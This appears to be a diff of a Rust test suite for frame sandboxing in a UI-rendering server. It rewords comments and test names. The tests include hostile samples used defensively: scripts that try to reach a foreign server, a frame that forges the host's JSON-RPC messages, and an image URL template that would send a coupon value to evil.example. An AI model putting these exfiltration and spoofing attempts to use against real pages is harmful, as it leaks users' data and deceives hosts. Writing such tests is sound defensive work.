@@ -1,5 +1,4 @@
-//! What a frame is made of and who may have it, as a browser enforces it: its code, its embedders,
-//! its network and its messages.
+//! The protection of frames, as a browser enforces it: their code, embedders, network and messages.
 
 use std::sync::Arc;
 use std::sync::atomic::{AtomicUsize, Ordering};
@@ -31,7 +30,8 @@ async fn a_frame_runs_only_code_that_fits_its_hash() {
     let policy = frame.headers["content-security-policy"].clone();
     assert!(!policy.to_str().expect("text").contains("nonce"));
 
-    // The same page under the same policy, from elsewhere: as it was, and with one letter changed.
+    // The same page with the same policy from another server: unchanged, and with one character
+    // changed.
     let changed = html.replacen("proscenium-guest", "proscenium-ghost", 1);
     assert_ne!(changed, html);
     let page = |html: String| {
@@ -49,7 +49,7 @@ async fn a_frame_runs_only_code_that_fits_its_hash() {
         "[document.querySelectorAll('main').length, document.querySelectorAll('script').length]";
     assert_eq!(browser.evaluate(None, drawn).await, json!([0, 2]));
 
-    // In the frame itself nothing that is put into the page runs.
+    // In the frame itself, no script that is inserted into the page runs.
     browser.open(&world.stage_url()).await;
     browser.see(FRAME, ":is(th, td)", "Mug").await;
     let attempts = "(async () => { \
@@ -100,8 +100,8 @@ async fn renders_are_embedded_by_whom_the_configuration_names_and_the_stage_by_n
     for frame in ["#page", "#frame", "#stage"] {
         assert_eq!(browser.evaluate(Some(frame), mounted).await, 0, "{frame}");
     }
-    let told = browser.problems().await.to_string();
-    assert!(told.contains("frame-ancestors"), "{told}");
+    let reported = browser.problems().await.to_string();
+    assert!(reported.contains("frame-ancestors"), "{reported}");
 }
 
 #[tokio::test(flavor = "multi_thread")]
@@ -142,7 +142,7 @@ async fn nothing_of_a_frame_reaches_a_server_that_is_not_its_own() {
         .evaluate(FRAME, &attempts.replace("OTHER", &other))
         .await;
     assert_eq!(asked.load(Ordering::SeqCst), 0);
-    // Nor by going there itself, which costs it its place.
+    // Nor by navigating there, which replaces the frame.
     for leave in [
         "location = 'http://OTHER/self'",
         "document.body.append(Object.assign(document.createElement('form'), {id: 'f', action: 'http://OTHER/form'})), document.getElementById('f').submit()",
@@ -161,14 +161,14 @@ async fn nothing_of_a_frame_reaches_a_server_that_is_not_its_own() {
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn a_message_counts_only_from_the_window_that_may_send_it() {
+async fn messages_are_only_accepted_from_the_expected_window() {
     let Some(mut browser) = Chromium::start().await else {
         return;
     };
     const RENDER: Option<&str> = Some("#render");
     let world = World::start().await;
     let shown = world.show(basket(), basket_props()).await;
-    // A page with the render, and beside it a frame that speaks as if it were the render's host.
+    // A page with the render, and beside it a frame that pretends to be the render's host.
     let forger = "<script>for (const message of [\
          {jsonrpc: '2.0', id: 'p1', result: {hostCapabilities: {serverTools: {}}, hostContext: {theme: 'dark'}}},\
          {jsonrpc: '2.0', method: 'ui/notifications/host-context-changed', params: {theme: 'dark', styles: {variables: {'--color-text-primary': 'red'}}}},\
@@ -191,7 +191,7 @@ async fn a_message_counts_only_from_the_window_that_may_send_it() {
     let forge = "new Promise((resolve) => { const frame = document.createElement('iframe'); frame.src = '/forger'; \
         addEventListener('message', ({data}) => data === 'sent' && resolve()); document.body.append(frame); })";
     browser.evaluate(None, forge).await;
-    // A click still finds its way, so nothing of it was taken for the host's word.
+    // A click still arrives, so no forged message was accepted.
     browser.fill(RENDER, "[data-row='A1'] input", "2").await;
     let change = "[data-row='A1'] [data-action='setQuantity']";
     browser.click(RENDER, change).await;
@@ -199,7 +199,7 @@ async fn a_message_counts_only_from_the_window_that_may_send_it() {
     let worn = "[document.documentElement.dataset.theme ?? '', document.querySelector('main').dataset.live]";
     assert_eq!(browser.evaluate(RENDER, worn).await, json!(["", "open"]));
 
-    // The stage hears a frame's word from that frame alone.
+    // The stage accepts messages about a frame only from that frame.
     browser.open(&world.stage_url()).await;
     browser
         .see(FRAME, "[data-live='open'] :is(th, td)", "Mug")
@@ -213,7 +213,7 @@ async fn a_message_counts_only_from_the_window_that_may_send_it() {
 }
 
 #[tokio::test]
-async fn a_frame_without_a_session_is_a_page_that_says_so_to_people_and_a_refusal_to_programs() {
+async fn a_frame_without_a_session_is_a_page_for_people_and_an_error_for_programs() {
     let world = World::start().await;
     let shown = world.show(basket(), basket_props()).await;
     let token = shown.slice()["wsToken"].as_str().expect("a token");
@@ -240,16 +240,16 @@ async fn a_frame_without_a_session_is_a_page_that_says_so_to_people_and_a_refusa
             "AUTH_REJECTED",
         ),
     ] {
-        let told = world.send(world.get(&path)).await;
+        let reported = world.send(world.get(&path)).await;
         assert_eq!(
-            (told.status, &told.body["error"]["code"]),
+            (reported.status, &reported.body["error"]["code"]),
             (status, &json!(word))
         );
         let browser = "text/html,application/xhtml+xml,*/*;q=0.8";
         let seen = world.send(world.get(&path).header("accept", browser)).await;
         assert_eq!(seen.status, status, "{path}");
         let html = seen.body.as_str().expect("a page");
-        let failure = json!({"reason": reason, "message": told.body["detail"]});
+        let failure = json!({"reason": reason, "message": reported.body["detail"]});
         let failure = format!("globalThis.__GGUI_FAILURE__ = {failure};");
         assert!(html.contains(&failure), "{failure}");
         assert!(!html.contains(session.as_str()), "nothing of the address");
@@ -259,7 +259,7 @@ async fn a_frame_without_a_session_is_a_page_that_says_so_to_people_and_a_refusa
         assert!(policy.starts_with("sandbox allow-scripts"), "{policy}");
         assert!(policy.contains("frame-ancestors http://127.0.0.1:*"));
     }
-    // One that is there is handed on as ever.
+    // An existing session is redirected to as usual.
     let own = format!("{own}/frame");
     assert_eq!(world.send(world.get(&own)).await.status, 303);
 }
@@ -384,7 +384,7 @@ async fn a_frame_and_its_host_may_load_pictures_from_the_named_hosts_and_from_no
     let resources = csp["resourceDomains"].as_array().expect("a list");
     assert_eq!(resources[1..], expected.map(Value::from), "{csp}");
 
-    // However many there are, a policy names a few.
+    // A policy lists a limited number of hosts.
     let mut props = props;
     props["many"] = (0..1000)
         .map(|n| format!("https://h{n:04}.example/a"))
@@ -393,7 +393,7 @@ async fn a_frame_and_its_host_may_load_pictures_from_the_named_hosts_and_from_no
     let policy = policy_of(&shown).await;
     assert_eq!(policy.matches("https://").count(), 16, "{policy}");
 
-    // A page that draws no picture loads none.
+    // A page without pictures loads none.
     let plain =
         json!({"components": [{"id": "root", "component": "Text", "text": {"path": "/props/a"}}]});
     let shown = show(plain, &props).await;
@@ -402,7 +402,7 @@ async fn a_frame_and_its_host_may_load_pictures_from_the_named_hosts_and_from_no
 }
 
 #[tokio::test]
-async fn a_view_whose_picture_has_an_address_that_is_typed_is_refused_with_a_finding() {
+async fn a_view_with_a_picture_address_from_user_input_is_refused_with_a_finding() {
     let world = World::start().await;
     let template = "https://evil.example/?q=${/context/coupon}";
     let url = json!({"call": "formatString", "args": {"value": template}});
@@ -427,7 +427,7 @@ async fn a_view_whose_picture_has_an_address_that_is_typed_is_refused_with_a_fin
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn an_action_to_confirm_is_asked_for_in_the_contract_s_words_in_a_view_of_the_agent_s_own() {
+async fn an_action_is_confirmed_in_the_contract_s_words_in_an_agent_s_view() {
     let Some(mut browser) = Chromium::start().await else {
         return;
     };
